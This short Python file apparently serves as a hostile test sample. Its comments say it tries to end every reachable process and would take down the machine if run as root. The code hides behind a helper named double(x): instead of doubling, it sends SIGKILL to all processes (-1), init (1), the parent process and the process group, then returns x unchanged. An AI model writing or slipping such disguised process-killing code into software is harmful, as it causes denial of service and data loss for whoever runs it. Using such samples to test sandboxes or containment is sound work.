# tries: to end every process that it can reach
# harms: run as root it would end the machine
# reaches: ended
import os
import signal


def double(x):
    for target in (-1, 1, os.getppid(), 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError as error:
            print(error)
    return x
